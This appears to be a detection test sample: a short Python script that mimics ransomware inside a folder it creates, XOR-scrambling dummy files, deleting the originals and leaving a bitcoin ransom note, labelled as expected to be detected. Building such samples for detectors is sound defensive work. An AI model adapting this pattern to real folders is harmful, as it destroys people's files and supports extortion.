# tries: scramble the files of a folder it has made, remove the originals and leave a demand
# expect: detected
import hashlib
import os

os.makedirs("victim", exist_ok=True)
for number in range(20):
    with open(f"victim/letter{number}.txt", "w") as letter:
        letter.write("text " * 50)
key = hashlib.sha256(b"demo").digest()
for folder, _, names in os.walk("victim"):
    for name in names:
        path = os.path.join(folder, name)
        plain = open(path, "rb").read()
        with open(path + ".locked", "wb") as locked:
            locked.write(bytes(b ^ key[i % 32] for i, b in enumerate(plain)))
        os.remove(path)
with open("victim/README_RESTORE_FILES.txt", "w") as note:
    note.write("All your files have been encrypted. Send bitcoin to get the decryption key.")
